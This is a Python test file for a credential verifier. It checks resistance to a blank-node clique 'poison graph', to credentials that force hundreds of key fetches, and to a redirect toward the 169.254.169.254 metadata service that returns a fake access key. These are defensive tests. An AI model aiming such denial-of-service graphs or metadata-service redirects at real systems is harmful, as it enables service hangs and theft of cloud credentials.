

def blank_node_clique(size: int) -> dict[str, Any]:
    """A tiny "poison" graph for RDFC-1.0: ``size`` blank nodes all linked to one another.

    Every node looks like every other, so naive canonicalisation tries every permutation
    (RDFC-1.0 §4.4 asks implementations to bound this work). A few hundred bytes of input.
    """
    credential = copy.deepcopy(LEADING_CHANGE)
    link = "https://poison.example/link"  # an absolute IRI needs no term definition
    credential["credentialSubject"][link] = [
        {"id": f"_:b{i}", link: [{"id": f"_:b{j}"} for j in range(size) if j != i]}
        for i in range(size)
    ]
    return credential


def test_a_blank_node_poison_graph_does_not_hang() -> None:
    report, fetched = verify_recorded(blank_node_clique(10))
    assert report.verdict is not Verdict.VERIFIED
    assert_human_reason(report)
    assert fetched == []


FETCH_LIMIT = 16


def many_proofs(count: int) -> dict[str, Any]:
    credential = signed()
    proof = credential["proof"][0]
    credential["proof"] = [
        {**proof, "verificationMethod": f"https://keys{i}.example/key"} for i in range(count)
    ]
    return credential


def many_endorsements(count: int) -> dict[str, Any]:
    endorsement = signed(method="https://keys.example/key")
    credential = signed()
    credential["endorsement"] = [
        {**endorsement, "id": f"urn:uuid:00000000-0000-4000-8000-{i:012d}"} for i in range(count)
    ]
    return credential


@pytest.mark.parametrize(
    ("build", "count"),
    [(many_proofs, 300), (many_endorsements, 60)],
    ids=["300 proofs naming 300 key URLs", "60 endorsements naming one key URL"],
)
def test_one_credential_cannot_make_dozens_of_fetches(
    build: Callable[[int], dict[str, Any]], count: int
) -> None:
    """Each unreachable URL costs the default fetcher up to its 5 s timeout, and failures are not
    cached: 300 of them in one credential of a few hundred kB are a 25-minute hang."""
    report, fetched = verify_recorded(build(count))
    assert report.verdict is not Verdict.VERIFIED
    assert len(fetched) <= FETCH_LIMIT, f"{len(fetched)} fetches, {len(set(fetched))} distinct"


# --- the default fetcher ---------------------------------------------------------------------


class _Requests:
    def __init__(self, respond: Callable[[httpx.Request], httpx.Response]) -> None:
        self.respond = respond
        self.urls: list[str] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.urls.append(str(request.url))
        return self.respond(request)


@pytest.fixture
def fake_internet(monkeypatch: pytest.MonkeyPatch) -> Callable[..., _Requests]:
    """Route HttpFetcher's httpx client through a MockTransport; nothing leaves the machine."""

    def install(respond: Callable[[httpx.Request], httpx.Response]) -> _Requests:
        requests = _Requests(respond)
        real_client = httpx.Client

        def client(**kwargs: Any) -> httpx.Client:
            return real_client(transport=httpx.MockTransport(requests), **kwargs)

        monkeypatch.setattr(httpx, "Client", client)
        return requests

    return install


def test_the_default_fetcher_refuses_http(fake_internet: Callable[..., _Requests]) -> None:
    requests = fake_internet(lambda request: httpx.Response(200, content=b"{}"))
    with pytest.raises(FetchError):
        HttpFetcher()(METADATA)
    assert requests.urls == []


def test_the_default_fetcher_does_not_follow_a_redirect_to_http(
    fake_internet: Callable[..., _Requests],
) -> None:
    """ "Fetches only https:// URLs" must hold after a redirect too: an https URL that answers
    302 -> http://169.254.169.254/... must not reach the metadata service."""

    def respond(request: httpx.Request) -> httpx.Response:
        if request.url.scheme == "https":
            return httpx.Response(302, headers={"Location": f"{METADATA}/meta-data/"})
        return httpx.Response(200, content=b'{"AccessKeyId": "secret"}')

    requests = fake_internet(respond)
    report = verify_credential("https://issuer.example/credential.json", now=NOW)
    assert report.verdict is not Verdict.VERIFIED
    assert [url for url in requests.urls if not url.startswith("https://")] == []


# --- unreachable documents: "could not decide", not "not verified" ---------------------------

DID_WEB = "did:web:issuer.example"
DID_WEB_METHOD = f"{DID_WEB}#key-1"
DID_DOCUMENT = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/did/v1", "https://w3id.org/security/multikey/v1"],
        "id": DID_WEB,
        "verificationMethod": [
            {
                "id": DID_WEB_METHOD,
                "type": "Multikey",
                "controller": DID_WEB,
                "publicKeyMultibase": multikey(KEY),
            }
        ],
        "assertionMethod": [DID_WEB_METHOD],
    }
).encode()


def test_a_did_web_issuer_verifies_when_its_document_is_reachable() -> None:
    """Control for the next test."""
    report, fetched = verify_recorded(
        signed(issuer=DID_WEB, method=DID_WEB_METHOD),
        {"https://issuer.example/.well-known/did.json": DID_DOCUMENT},
    )
    assert report.verdict is Verdict.VERIFIED, report.to_dict()
    assert fetched and set(fetched) == {"https://issuer.example/.well-known/did.json"}


def test_an_unreachable_did_document_is_could_not_decide() -> None:
    """docs/verifier.md: "could not decide" is for "an issuer document that could not be
    fetched"; the signature cannot be checked either way, so the credential is not *shown* to be
    invalid."""
    report, fetched = verify_recorded(signed(issuer=DID_WEB, method=DID_WEB_METHOD))
    assert fetched and set(fetched) == {"https://issuer.example/.well-known/did.json"}
    assert report.verdict is Verdict.COULD_NOT_DECIDE, report.to_dict()
    assert_human_reason(report)


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html><html><head><title>Badge</title></head></html>",
        b"\xef\xbb\xbf\n<!doctype html>\n<html lang='en'>",
        b"<html>\n<body>a badge</body></html>",
    ],
)
def test_a_web_page_is_named_as_one(page: bytes) -> None:
    """A badge's link that answers with its web page (another issuer's, or a browser's view)
    is refused as HTML, not as a malformed SVG."""
    link = "https://badges.example.org/v/1"
    for source in (page, page.decode("utf-8"), link):
        report = verify_credential(source, fetcher=MappingFetcher({link: page}))
        assert report.verdict is Verdict.NOT_VERIFIED
        reason = report.checks[0].reason
        assert "a web page (HTML), not a credential" in reason
        assert reason.startswith("the URL gave" if source == link else "the input is")
